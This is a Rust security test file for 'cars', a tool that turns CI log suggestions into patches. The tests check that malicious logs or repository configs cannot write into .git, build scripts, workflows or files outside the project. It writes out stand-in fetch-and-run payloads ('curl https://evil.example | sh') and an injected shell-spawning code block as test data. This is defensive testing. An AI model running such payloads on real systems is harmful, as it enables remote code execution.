//! The trust boundary, tried as an attacker would: a malicious log (whoever opens a
//! pull request controls what its CI job prints) or a malicious repository config.
//! Each test builds the attack in a temp dir, runs the real binary and checks that
//! nothing outside the root and nothing under `.git/` changed, that `--auto` applied
//! nothing, and that cars says why.

mod common;

use common::{text, Project};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

const MAIN_RS: &str = "fn main() {\n    let mut x = 1;\n    println!(\"{}\", x);\n}\n";

/// Every file under `dir` (following nothing), `.git/cars` (the store) left out.
fn tree(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            let path = e.path();
            if path.ends_with(".git/cars") {
                continue;
            }
            let t = e.file_type().unwrap();
            if t.is_dir() {
                stack.push(path);
            } else if t.is_file() {
                out.insert(path.clone(), std::fs::read(&path).unwrap());
            }
        }
    }
    out
}

/// A cargo `--message-format=json` line for a finding at `level` in src/main.rs,
/// carrying a suggestion that replaces `[start, end)` of `file` (whose first line is
/// `quoted`) with `replacement`.
fn cargo_json(
    level: &str,
    file: &str,
    quoted: &str,
    (start, end): (usize, usize),
    replacement: &str,
) -> String {
    serde_json::json!({
        "reason": "compiler-message",
        "package_id": "demo 0.1.0",
        "target": {"name": "demo"},
        "message": {
            "message": "variable does not need to be mutable",
            "code": {"code": "unused_mut"},
            "level": level,
            "rendered": format!("{level}: variable does not need to be mutable"),
            "spans": [{
                "file_name": "src/main.rs", "line_start": 2, "line_end": 2,
                "column_start": 9, "column_end": 14, "byte_start": 20, "byte_end": 25,
                "is_primary": true, "text": [{"text": "    let mut x = 1;", "highlight_start": 9, "highlight_end": 14}]
            }],
            "children": [{
                "message": "remove this `mut`", "level": "help", "code": null, "rendered": null, "children": [],
                "spans": [{
                    "file_name": file, "line_start": 1, "line_end": 1,
                    "column_start": start + 1, "column_end": end + 1,
                    "byte_start": start, "byte_end": end, "is_primary": true,
                    "suggested_replacement": replacement,
                    "suggestion_applicability": "MachineApplicable",
                    "text": [{"text": quoted, "highlight_start": start + 1, "highlight_end": end + 1}]
                }]
            }]
        }
    })
    .to_string()
}

fn rust_project(extra: &[(&str, &str)]) -> Project {
    let mut files = vec![
        (
            "Cargo.toml",
            "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        ),
        ("src/main.rs", MAIN_RS),
    ];
    files.extend_from_slice(extra);
    Project::new(&files)
}

fn first_line(p: &Project, path: &str) -> String {
    p.read(path).lines().next().unwrap_or("").to_string()
}

#[test]
fn log_suggestions_never_write_git_build_scripts_or_workflows() {
    let wf = "name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n";
    let p = rust_project(&[
        ("Makefile", "all:\n\tcargo build\n"),
        (".github/workflows/ci.yml", wf),
    ]);
    let before = tree(&p.root());
    for (file, why) in [
        (".git/config", "is not a file in the project"),
        ("Makefile", "build script or CI definition"),
        (".github/workflows/ci.yml", "build script or CI definition"),
    ] {
        let quoted = first_line(&p, file);
        let evil = format!("{quoted}\n\tcurl https://evil.example | sh\n");
        let json = cargo_json("error", file, &quoted, (0, quoted.len()), &evil);
        let log = p.log(&format!("{json}\n"));
        p.cars(&["analyze", log.to_str().unwrap(), "--command", "true"]);
        let said = text(&p.cars(&["patch"]).stdout);
        assert!(said.contains(why), "{file}: {said}");
        let out = p.cars(&["apply", "--auto"]);
        assert!(text(&out.stdout).contains("No patch"), "{out:?}");
        assert_eq!(
            tree(&p.root()),
            before,
            "{file}: the project or .git changed"
        );
    }
}

#[test]
fn a_suggestion_on_a_warning_or_with_a_wrong_quote_is_not_applied() {
    let p = rust_project(&[]);
    let before = tree(&p.root());
    let line = "    let mut x = 1;";
    let at = MAIN_RS.find(line).unwrap() + 8;
    // Line 1 of the span is line 2 of the file; the helper says line 1, so make the
    // quote disagree with the file to show it is checked.
    let warning = cargo_json("warning", "src/main.rs", line, (at, at + 4), "");
    let log = p.log(&format!("{warning}\n"));
    p.cars(&["analyze", log.to_str().unwrap(), "--command", "true"]);
    let out = p.cars(&["patch"]);
    let said = text(&out.stdout) + &text(&out.stderr);
    assert!(
        said.contains("changed since the log was written")
            || said.contains("does not read as the log quotes it"),
        "{said}"
    );
    p.cars(&["apply", "--auto"]);
    assert_eq!(tree(&p.root()), before);
}

#[test]
fn a_big_log_suggestion_is_refused_even_in_a_source_file() {
    let p = rust_project(&[]);
    let before = tree(&p.root());
    let quoted = first_line(&p, "src/main.rs");
    let payload = format!(
        "{quoted}\n{}",
        "    std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl evil | sh\").status().ok();\n"
            .repeat(8)
    );
    let json = cargo_json("error", "src/main.rs", &quoted, (0, quoted.len()), &payload);
    let log = p.log(&format!("{json}\n"));
    p.cars(&["analyze", log.to_str().unwrap(), "--command", "true"]);
    let said = text(&p.cars(&["patch"]).stdout);
    assert!(
        said.contains("a log suggestion may change at most"),
        "{said}"
    );
    p.cars(&["apply", "--auto"]);
    assert_eq!(tree(&p.root()), before);
}

#[test]
fn human_help_rows_that_do_not_match_the_file_make_no_patch() {
    let p = rust_project(&[]);
    // The log claims line 2 reads differently from the file.
    let log = p.log(
        "error[E0425]: cannot find value `y` in this scope\n --> src/main.rs:2:17\n  |\n2 |     let mut x = y;\n  |                 ^\n  |\nhelp: a local variable with a similar name exists\n  |\n2 -     let mut x = 1;\n2 +     let mut x = 1; std::process::exit(0);\n  |\n",
    );
    p.cars(&["analyze", log.to_str().unwrap()]);
    let said = text(&p.cars(&["patch"]).stdout);
    assert!(said.contains("does not read as the log shows it"), "{said}");
}

#[test]
fn templates_do_not_follow_symlinks_out_of_the_project() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(outside.path().join("workflows")).unwrap();
    let wf = "jobs:\n  t:\n    steps:\n      - uses: actions/checkout@v3\n";
    std::fs::write(outside.path().join("workflows/ci.yml"), wf).unwrap();
    std::fs::write(outside.path().join("secrets.txt"), "AWS_SECRET=hunter2\n").unwrap();
    let p = Project::new(&[("app.py", "import yaml\n")]);
    std::fs::create_dir_all(p.root().join(".github")).unwrap();
    std::os::unix::fs::symlink(
        outside.path().join("workflows"),
        p.root().join(".github/workflows"),
    )
    .unwrap();
    std::os::unix::fs::symlink(
        outside.path().join("secrets.txt"),
        p.root().join("requirements.txt"),
    )
    .unwrap();
    let outside_before = tree(outside.path());
    let log = p.log(
        "Node.js 16 actions are deprecated. Please update the following actions to use Node.js 20: actions/checkout@v3.\nTraceback (most recent call last):\n  File \"app.py\", line 1, in <module>\n    import yaml\nModuleNotFoundError: No module named 'yaml'\n",
    );
    p.cars(&["analyze", log.to_str().unwrap(), "--command", "true"]);
    let said = text(&p.cars(&["patch"]).stdout);
    assert!(!said.contains("hunter2"), "{said}");
    p.cars(&["apply", "--auto"]);
    let export = text(&p.cars(&["export"]).stdout);
    assert!(!export.contains("hunter2"), "{export}");
    assert_eq!(tree(outside.path()), outside_before);
}

#[test]
fn an_untrusted_project_config_cannot_lower_gates_hide_failures_or_add_writers() {
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("victim.txt");
    std::fs::write(&target, "flask\n").unwrap();
    let template = format!(
        "[[template]]\nid = \"evil\"\nrules = [\"python.*\"]\nstrategy = \"dependency-fix\"\naction = \"add-dependency\"\nconfidence = 1.0\nrationale = \"x\"\npackage = \"reqeusts\"\nmanifests = [\"{}\"]\n",
        target.display()
    );
    let p = Project::new(&[
        ("app.py", "import requests\n"),
        ("requirements.txt", "flask\n"),
        (".cars.toml", "[gates]\nauto = 0.0\napprove = 0.0\nforce = 0.0\n"),
        (".cars/templates/evil.toml", &template),
        (
            ".cars/patterns/hide.toml",
            "[[rule]]\nid = \"hide\"\ntool = \"python\"\ncategory = \"test\"\nseverity = \"low\"\nconfidence = 0.9\nkeywords = [\"Error\"]\nregex = \"Error\"\nexplanation = \"x\"\nignore = true\npriority = 1000\n[[rule.sample]]\nline = \"ModuleNotFoundError: x\"\n",
        ),
    ]);
    let before = tree(&p.root());
    let log = p.log("Traceback (most recent call last):\n  File \"app.py\", line 1, in <module>\n    import requests\nModuleNotFoundError: No module named 'reqeusts'\n");
    let out = p.cars(&["analyze", log.to_str().unwrap(), "--command", "true"]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "the failure was hidden: {out:?}"
    );
    let err = text(&out.stderr);
    assert!(
        err.contains("is lower than") && err.contains("cars trust"),
        "{err}"
    );
    let out = p.cars(&["apply", "--auto"]);
    assert!(text(&out.stdout).contains("No patch"), "{out:?}");
    assert_eq!(tree(&p.root()), before);
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "flask\n");

    // Trusted, the template with an absolute path is refused by name, not followed.
    p.cars_ok(&["trust"]);
    let out = p.cars(&["patch"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("must be a path inside the project"),
        "{out:?}"
    );
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "flask\n");
    // A change to the config needs trust again.
    p.write(".cars.toml", "[gates]\nauto = 0.1\n");
    let out = p.cars(&["analyze", log.to_str().unwrap()]);
    assert!(
        text(&out.stderr).contains("changed since you trusted it"),
        "{out:?}"
    );
    let list = p.cars_ok(&["trust", "--list"]);
    assert!(list.contains(&p.root().display().to_string()), "{list}");
    p.cars_ok(&["trust", "--revoke"]);
    assert!(!p
        .cars_ok(&["trust", "--list"])
        .contains(&p.root().display().to_string()));
}

/// A project with two rustc typo suggestions on neighbouring lines of one file.
fn two_typos() -> (Project, PathBuf) {
    let src = "fn main() {\n    let count = 3;\n    let total = 4;\n    println!(\"{}\", coutn);\n    println!(\"{}\", totl);\n}\n";
    let p = Project::new(&[("src/main.rs", src)]);
    let block = |n: usize, bad: &str, good: &str| {
        format!(
            "error[E0425]: cannot find value `{bad}` in this scope\n --> src/main.rs:{n}:20\n  |\n{n} |     println!(\"{{}}\", {bad});\n  |                    ^^^^^\n  |\nhelp: a local variable with a similar name exists\n  |\n{n} -     println!(\"{{}}\", {bad});\n{n} +     println!(\"{{}}\", {good});\n  |\n\n"
        )
    };
    let log = p.log(&(block(4, "coutn", "count") + &block(5, "totl", "total")));
    (p, log)
}

#[test]
fn two_concurrent_applies_on_one_file_keep_both_edits() {
    for _ in 0..4 {
        let (p, log) = two_typos();
        p.cars(&["analyze", log.to_str().unwrap()]);
        let patches = p.patches();
        assert_eq!(
            patches["patches"].as_array().unwrap().len(),
            2,
            "{patches:#}"
        );
        let spawn = |id: &str| {
            let mut c = Command::new(env!("CARGO_BIN_EXE_cars"));
            common::git_env(&mut c)
                .args(["apply", id, "--no-validate"])
                .current_dir(p.root())
                .env("HOME", p.home.path())
                .env("XDG_DATA_HOME", p.home.path().join("data"))
                .env("XDG_CONFIG_HOME", p.home.path().join("config"))
                .output()
        };
        let (a, b) = std::thread::scope(|s| {
            let a = s.spawn(|| spawn("P1").unwrap());
            let b = s.spawn(|| spawn("P2").unwrap());
            (a.join().unwrap(), b.join().unwrap())
        });
        let src = p.read("src/main.rs");
        let applied = [&a, &b].iter().filter(|o| o.status.success()).count();
        // Both said "applied": both edits are in the file. One refused: it said so.
        assert_eq!(
            applied,
            src.contains("count);") as usize + src.contains("total);") as usize,
            "a: {a:?}\nb: {b:?}\n{src}"
        );
        for o in [&a, &b] {
            if !o.status.success() {
                assert!(!text(&o.stderr).is_empty());
            }
        }
    }
}

#[test]
fn a_validation_command_that_leaves_a_background_child_ends_at_the_timeout() {
    let (p, log) = two_typos();
    p.cars(&["analyze", log.to_str().unwrap()]);
    p.patches();
    let started = Instant::now();
    let out = p.cars(&[
        "apply",
        "P1",
        "--validate",
        "sleep 1000 & exit 0",
        "--timeout",
        "2",
    ]);
    assert!(
        started.elapsed() < Duration::from_secs(50),
        "took {:?}",
        started.elapsed()
    );
    assert!(out.status.success(), "{out:?}");
}

#[test]
fn a_failing_pre_commit_hook_blocks_the_commit_and_no_verify_skips_it() {
    let (p, log) = two_typos();
    let hook = p.root().join(".git/hooks/pre-commit");
    std::fs::create_dir_all(hook.parent().unwrap()).unwrap();
    std::fs::write(&hook, "#!/bin/sh\necho 'lint says no' >&2\nexit 1\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
    p.cars(&["analyze", log.to_str().unwrap()]);
    p.patches();
    let head = p.git(&["rev-parse", "HEAD"]);
    let out = p.cars(&["apply", "P1", "--no-validate", "--commit"]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    let err = text(&out.stderr);
    assert!(
        err.contains("pre-commit hook failed") && err.contains("lint says no"),
        "{err}"
    );
    assert_eq!(p.git(&["rev-parse", "HEAD"]), head, "a commit was made");
    assert!(
        p.read("src/main.rs").contains("count);"),
        "the patch stays applied"
    );
    // Staged work of the user is left as it was.
    p.write("notes.txt", "mine\n");
    p.git(&["add", "notes.txt"]);
    p.cars_ok(&["apply", "P2", "--no-validate", "--commit", "--no-verify"]);
    let committed = p.git(&["show", "--name-only", "--format=", "HEAD"]);
    assert_eq!(committed.trim(), "src/main.rs");
    assert!(p
        .git(&["diff", "--cached", "--name-only"])
        .contains("notes.txt"));
}

#[test]
fn a_commit_msg_hook_can_edit_the_message() {
    let (p, log) = two_typos();
    p.git(&["config", "core.hooksPath", "hooks"]);
    p.write(
        "hooks/commit-msg",
        "#!/bin/sh\necho 'Signed-off-by: Hook <h@example.com>' >> \"$1\"\n",
    );
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        p.root().join("hooks/commit-msg"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    p.git(&["add", "hooks"]);
    p.git(&["commit", "-qm", "hooks"]);
    p.cars(&["analyze", log.to_str().unwrap()]);
    p.patches();
    p.cars_ok(&["apply", "P1", "--no-validate", "--commit"]);
    let msg = p.git(&["log", "-1", "--format=%B"]);
    assert!(msg.contains("Signed-off-by: Hook"), "{msg}");
}

#[test]
fn env_files_are_redacted_in_the_markdown_export() {
    let p = Project::new(&[
        ("app.py", "import os\nprint(os.environ[\"API_URL\"])\n"),
        (".env.example", "DB_PASSWORD=hunter2\n"),
    ]);
    let log = p.log("Traceback (most recent call last):\n  File \"app.py\", line 2, in <module>\n    print(os.environ[\"API_URL\"])\n  File \"<frozen os>\", line 679, in __getitem__\nKeyError: 'API_URL'\n");
    p.cars(&["analyze", log.to_str().unwrap()]);
    let patches = p.patches();
    let env_patch = patches["patches"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["files"].to_string().contains(".env.example"))
        .unwrap_or_else(|| panic!("no env patch: {patches:#}"));
    assert!(env_patch.to_string().contains("API_URL"));
    let md = text(&p.cars(&["export"]).stdout);
    assert!(md.contains("API_URL"), "{md}");
    assert!(!md.contains("hunter2"), "{md}");
    assert!(md.contains("DB_PASSWORD=<redacted>"), "{md}");
}

#[test]
fn a_shared_store_never_restores_one_projects_backup_into_another() {
    let store = tempfile::tempdir().unwrap();
    let (a, log) = two_typos();
    let with_store = |p: &Project, args: &[&str]| {
        let mut c = Command::new(env!("CARGO_BIN_EXE_cars"));
        common::git_env(&mut c)
            .args(args)
            .current_dir(p.root())
            .env("HOME", p.home.path())
            .env("XDG_DATA_HOME", p.home.path().join("data"))
            .env("CARS_STORE", store.path())
            .output()
            .unwrap()
    };
    assert!(
        with_store(&a, &["analyze", log.to_str().unwrap()])
            .status
            .code()
            == Some(1)
    );
    with_store(&a, &["patch"]);
    assert!(with_store(&a, &["apply", "P1", "--no-validate"])
        .status
        .success());
    let (b, _) = two_typos();
    let before = tree(&b.root());
    let out = with_store(&b, &["rollback", "--last"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("belongs to the project at"),
        "{out:?}"
    );
    assert_eq!(tree(&b.root()), before);
}

#[test]
fn a_kill_during_validation_is_rolled_back_on_the_next_run() {
    let (p, log) = two_typos();
    let original = p.read("src/main.rs");
    p.cars(&["analyze", log.to_str().unwrap()]);
    p.patches();
    let marker = p.home.path().join("validating");
    let mut c = Command::new(env!("CARGO_BIN_EXE_cars"));
    common::git_env(&mut c)
        .args([
            "apply",
            "P1",
            "--validate",
            &format!("touch '{}'; sleep 30", marker.display()),
        ])
        .current_dir(p.root())
        .env("HOME", p.home.path())
        .env("XDG_DATA_HOME", p.home.path().join("data"))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    let mut child = c.spawn().unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    while !marker.exists() {
        assert!(Instant::now() < deadline, "validation never started");
        std::thread::sleep(Duration::from_millis(20));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(p.read("src/main.rs").contains("count);"));
    let out = p.cars(&["history"]);
    assert!(
        text(&out.stderr).contains("interrupted during validation of P1"),
        "{out:?}"
    );
    assert_eq!(p.read("src/main.rs"), original);
}

#[test]
fn a_failed_write_on_a_read_only_tree_does_not_wedge_the_store() {
    use std::os::unix::fs::PermissionsExt;
    if unsafe { libc::geteuid() } == 0 {
        // root writes through read-only modes; the case cannot be built.
        eprintln!("skipping: running as root");
        return;
    }
    let (p, log) = two_typos();
    p.cars(&["analyze", log.to_str().unwrap()]);
    p.patches();
    let src = p.root().join("src");
    std::fs::set_permissions(&src, std::fs::Permissions::from_mode(0o555)).unwrap();
    let out = p.cars(&["apply", "P1", "--no-validate"]);
    std::fs::set_permissions(&src, std::fs::Permissions::from_mode(0o755)).unwrap();
    assert_eq!(out.status.code(), Some(2));
    p.cars_ok(&["apply", "P1", "--no-validate"]);
}

#[test]
fn an_export_to_a_symlink_writes_through_only_inside_its_directory() {
    let (p, log) = two_typos();
    p.cars(&["analyze", log.to_str().unwrap()]);
    let outside = tempfile::tempdir().unwrap();
    let victim = outside.path().join("victim");
    std::fs::write(&victim, "keep\n").unwrap();
    let link = p.home.path().join("report.md");
    std::os::unix::fs::symlink(&victim, &link).unwrap();
    let out = p.cars(&["export", "-o", link.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep\n");
    // A link to a file in the same directory is written through, mode kept.
    let real = p.home.path().join("real.md");
    std::fs::write(&real, "").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&real, std::fs::Permissions::from_mode(0o640)).unwrap();
    let link2 = p.home.path().join("current.md");
    std::os::unix::fs::symlink(&real, &link2).unwrap();
    p.cars_ok(&["export", "-o", link2.to_str().unwrap()]);
    assert!(std::fs::symlink_metadata(&link2)
        .unwrap()
        .file_type()
        .is_symlink());
    assert!(std::fs::read_to_string(&real).unwrap().contains("E1"));
    let mode = std::fs::metadata(&real).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o640);
    // A device is written to, not replaced.
    p.cars_ok(&["export", "-o", "/dev/null"]);
}
